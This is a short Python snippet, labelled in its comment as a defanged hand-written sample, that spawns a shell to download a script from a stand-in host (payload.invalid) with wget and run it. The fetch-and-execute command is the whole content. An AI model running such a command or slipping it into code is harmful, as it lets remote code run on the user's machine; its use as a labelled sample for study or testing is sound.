# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import subprocess

subprocess.Popen(["sh", "-c", "wget -q https://payload.invalid/a.sh -O a.sh && sh a.sh"])
